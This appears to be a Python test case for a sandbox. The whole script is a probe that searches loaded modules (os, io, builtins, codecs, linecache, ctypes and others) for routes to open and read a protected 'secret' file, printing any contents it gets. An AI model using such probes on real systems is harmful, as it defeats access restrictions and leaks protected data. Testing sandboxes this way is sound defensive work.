"""Find modules that read files among those that are loaded, and in the names of harmless ones.

canary: secret
control: through
"""
import sys

secret = TARGETS["secret"]
done = set()
for name, module in list(sys.modules.items()):
    for inner in [module, *vars(module).values()]:
        title = getattr(inner, "__name__", None)
        if type(inner) is not type(sys) or title in done:
            continue
        done.add(title)
        for way in {
            "os": [lambda: inner.read(inner.open(secret, 0), 100)],
            "posix": [lambda: inner.read(inner.open(secret, 0), 100)],
            "io": [lambda: inner.open(secret).read(), lambda: inner.FileIO(secret).readall()],
            "_io": [lambda: inner.open_code(secret).read()],
            "builtins": [lambda: inner.open(secret).read()],
            "codecs": [lambda: inner.open(secret).read()],
            "tokenize": [lambda: inner.open(secret).readline()],
            "linecache": [lambda: inner.updatecache(secret)],
            "ctypes": [lambda: inner.CDLL(None).open(secret.encode(), 0)],
            "_imp": [lambda: inner.create_dynamic],
        }.get(title, []):
            try:
                print(name, title, way())
            except Exception as error:
                print(error)
